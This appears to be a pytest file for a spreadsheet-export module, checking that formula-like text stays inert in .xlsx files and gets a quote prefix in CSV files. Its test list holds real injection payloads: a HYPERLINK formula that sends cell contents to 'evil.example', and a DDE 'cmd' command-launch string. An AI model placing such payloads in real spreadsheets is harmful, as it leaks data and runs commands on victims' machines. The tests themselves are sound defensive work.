"""The one safe spreadsheet writer: formula-like text is written as text in .xlsx and CSV, numbers stay numbers."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from bangfu.common.spreadsheets import append_row, csv_bytes, csv_field, is_formula, workbook_bytes

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
             "\t=1+1", "\r=1", "  =1+1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_like_text_is_recognised(value):
    assert is_formula(value)


@pytest.mark.parametrize("value", ["张三", "南京市玄武区", "", "1+1=2", None, 5, Decimal("-3.50")])
def test_ordinary_values_are_not_formulas(value):
    assert not is_formula(value)


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_keeps_formula_text_as_text_and_numbers_as_numbers(write_only):
    book = Workbook(write_only=write_only)
    ws = book.create_sheet("t") if write_only else book.active
    append_row(ws, [*DANGEROUS, Decimal("12.50"), -4])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).worksheets[0]
    cells = next(sheet.iter_rows())
    # openpyxl writes through lxml (a pinned dependency), which escapes a carriage return: the text comes back whole
    assert [c.value for c in cells[: len(DANGEROUS)]] == DANGEROUS
    assert all(c.data_type == "s" for c in cells[: len(DANGEROUS)])
    assert cells[-2].value == 12.5 and cells[-1].value == -4


def test_csv_prefixes_formula_text_and_keeps_the_rest():
    assert csv_field("=1+1") == "'=1+1"
    assert csv_field("张三") == "张三" and csv_field(None) == "" and csv_field(Decimal("-3.50")) == "-3.50"
    data = csv_bytes(["姓名", "金额"], [["=cmd|' /C calc'!A0", Decimal("8.00")]], encoding="gbk")
    assert data.decode("gbk").splitlines() == ["姓名,金额", "'=cmd|' /C calc'!A0,8.00"]
